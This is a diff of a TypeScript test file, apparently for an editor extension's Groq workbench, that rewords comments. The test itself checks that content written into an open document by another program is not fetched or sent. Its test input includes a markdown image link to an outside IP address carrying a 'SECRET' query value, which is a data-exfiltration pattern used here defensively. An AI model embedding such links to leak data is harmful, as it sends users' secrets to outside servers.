@@ -1,4 +1,4 @@
-// Nothing is fetched or sent before its question: neither an image of the web, nor a key to ask for the list of models.
+// Nothing is fetched or sent before its question: neither an image from the web, nor a key to request the model list.
 import { appendFileSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
@@ -7,7 +7,7 @@ import { afterAll, beforeEach, expect, test } from 'vitest';
 import { groqStream } from '../servers/vendorReplies';
 import { groqChat, useGroqWorkbench } from './driver';
 
-/** Stands for everything beyond this machine: notes what it is asked for and with which key. */
+/** Stands in for everything beyond this machine: records each request and its key. */
 const seen: string[] = [];
 const web = createServer((request, response) => {
   seen.push(`${request.method} ${request.url} ${request.headers.authorization ?? ''}`.trim());
@@ -45,7 +45,7 @@ test('what another program writes into an open document is neither fetched nor a
   const marks = workbench().page.locator('.squiggly-warning');
   await expect.poll(() => marks.count()).toBe(1);
   appendFileSync(join(workbench().folder, 'notes.md'), '\n![](http://8.8.8.8/t.png?d=SECRET)\n\n![](logo.png)\n');
-  // The extension has read the change when it has something to say of it.
+  // The extension has read the change when it reports something about it.
   await expect.poll(() => marks.count()).toBe(3);
   await workbench().page.waitForTimeout(1500);
   expect(seen).toEqual([]);
